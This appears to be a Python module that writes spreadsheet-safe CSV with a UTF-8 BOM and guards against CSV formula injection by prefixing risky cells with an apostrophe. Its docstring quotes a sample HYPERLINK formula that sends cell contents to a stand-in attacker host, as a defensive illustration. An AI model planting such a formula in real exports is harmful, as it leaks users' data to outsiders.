"""CSV files meant to be opened in a spreadsheet: UTF-8 that Excel recognises, and no cell that runs.

A spreadsheet reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) as a formula: a name like ``=HYPERLINK("http://evil.test?"&A2, "click")`` typed into a
profile would run on the reader's machine. Such cells are written with a leading apostrophe, which
spreadsheets show as plain text (OWASP's advice for CSV injection).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Excel opens a UTF-8 file as UTF-8 only with a byte order mark; other readers skip it.
BOM = "\ufeff"


def safe_cell(value: object) -> str:
    """``value`` as text a spreadsheet shows as it is, never evaluates."""
    text = "" if value is None else str(value)
    if text.lstrip(" ").startswith(_FORMULA_STARTS):
        return "'" + text
    return text


def spreadsheet_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document (RFC 4180: commas, CRLF) with a BOM, every cell passed through :func:`safe_cell`."""
    stream = io.StringIO()
    stream.write(BOM)
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return stream.getvalue()
